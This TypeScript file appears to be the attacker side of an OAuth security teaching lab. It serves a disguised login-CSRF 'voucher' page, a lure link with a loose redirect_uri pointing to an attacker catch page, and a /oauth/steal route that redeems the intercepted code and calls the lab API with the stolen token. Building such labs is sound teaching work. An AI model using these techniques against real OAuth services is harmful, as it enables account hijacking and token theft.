import type { FastifyPluginAsyncTypebox } from '@fastify/type-provider-typebox';
import type { FastifyInstance } from 'fastify';
import { randomToken } from '../../crypto/random';
import { html } from '../../core/html';
import { attackerLayout } from '../../core/html-layouts';
import { params } from './schemas';
import { API_SCOPE } from './settings';
import type { OAuthServices } from './services';
import { s256 } from './pkce';
import { demoAccount, signInAndConsent } from './runs';
import { ScriptedBrowser } from '../../core/scripted-browser';

/** Verifiers the attacker made for links in flight, by state. Bounded: it is the attacker's scratch pad. */
const MAX_PENDING = 50;

/**
 * The attacker's pages for the OAuth lab, served from the attacker origin so
 * the victim's real browser does the cross-site part itself.
 */
export function oauthAttackerRoutes(lab: OAuthServices) {
  return async (root: FastifyInstance): Promise<void> => {
    await root.register(attackerPages(lab));
  };
}

const attackerPages =
  (lab: OAuthServices): FastifyPluginAsyncTypebox =>
  async (app) => {
    const { ctx } = lab;
    const verifiers = new Map<string, string>();
    /** The attacker's catch page: same host name as Your App (127.0.0.1), the attacker's own port. */
    const stealUrl = () => `http://127.0.0.1:${new URL(ctx.origins.attacker).port}/oauth/steal`;

    // Login CSRF: the attacker logs in to Your App with their own account, stops before the
    // callback, and makes the victim's browser finish it.
    app.get('/oauth/login-csrf', async (_request, reply) => {
      lab.ensureDemoClients();
      const attackerBrowser = new ScriptedBrowser(lab.fetch);
      const start = await attackerBrowser.request('GET', `${ctx.origins.client}/login`);
      const back = await signInAndConsent(
        lab,
        attackerBrowser,
        start.location ?? '',
        demoAccount(lab, 'admin@authlab.test'),
      );
      const callback = back.location ?? ctx.origins.client;
      return reply.type('text/html; charset=utf-8').send(
        attackerLayout(
          'Free coffee voucher',
          html`<p>Redeeming your voucher at Your App…</p>
<p>Behind the scenes: the attacker signed in to Your App as <code>admin@authlab.test</code>, stopped before the
callback, and now sends your browser there: <code id="callback">${callback}</code></p>
<p><a id="go" href="${callback}">Continue</a></p>`,
          html`<meta http-equiv="refresh" content="1;url=${callback}">`,
        ),
      );
    });

    // A loose redirect_uri: a Lab ID link for "Lab Notes" whose redirect_uri is the attacker's page.
    app.get('/oauth/redirect-uri', async (_request, reply) => {
      lab.ensureDemoClients();
      const verifier = randomToken(32);
      const state = randomToken(12);
      if (verifiers.size >= MAX_PENDING) verifiers.delete(verifiers.keys().next().value!);
      verifiers.set(state, verifier);
      const url = new URL(`${lab.issuer()}/authorize`);
      url.search = new URLSearchParams({
        response_type: 'code',
        client_id: 'lab-spa',
        redirect_uri: stealUrl(),
        scope: `openid email ${API_SCOPE}`,
        state,
        code_challenge: s256(verifier),
        code_challenge_method: 'S256',
      }).toString();
      return reply.type('text/html; charset=utf-8').send(
        attackerLayout(
          'Your notes are waiting',
          html`<p>Sign in with Lab ID to see the notes a friend shared with you.</p>
<p><a id="lab-id-link" href="${url.toString()}">Sign in with Lab ID</a></p>
<p>Behind the scenes: the link is a real Lab ID request for the "Lab Notes" app, but its
<code>redirect_uri</code> is <code>${stealUrl()}</code>, the attacker's page, and the PKCE
challenge is the attacker's own.</p>`,
        ),
      );
    });

    app.get('/oauth/steal', { schema: { querystring: params('code', 'state') } }, async (request, reply) => {
      const q = request.query;
      const code = typeof q.code === 'string' ? q.code : '';
      const verifier = typeof q.state === 'string' ? verifiers.get(q.state) : undefined;
      if (typeof q.state === 'string') verifiers.delete(q.state);
      let loot = 'Nothing arrived.';
      if (code && verifier) {
        const token = await lab.fetch(`${lab.issuer()}/token`, {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: new URLSearchParams({
            grant_type: 'authorization_code',
            code,
            redirect_uri: stealUrl(),
            client_id: 'lab-spa',
            code_verifier: verifier,
          }).toString(),
        });
        const tokens = (await token.json()) as Record<string, unknown>;
        const api = await lab.fetch(`${ctx.origins.app}/api/oauth/resource`, {
          headers: { authorization: `Bearer ${String(tokens.access_token ?? '')}` },
        });
        loot = `Token endpoint: ${token.status}. Lab API with the stolen token: ${api.status} ${JSON.stringify(await api.json().catch(() => null))}`;
      }
      const stolen = code ? 'Evil Corp got your code and redeemed it.' : 'No code arrived.';
      return reply
        .type('text/html; charset=utf-8')
        .send(attackerLayout('Thanks!', html`<p id="stolen">${stolen}</p><pre id="loot">${loot}</pre>`));
    });
  };
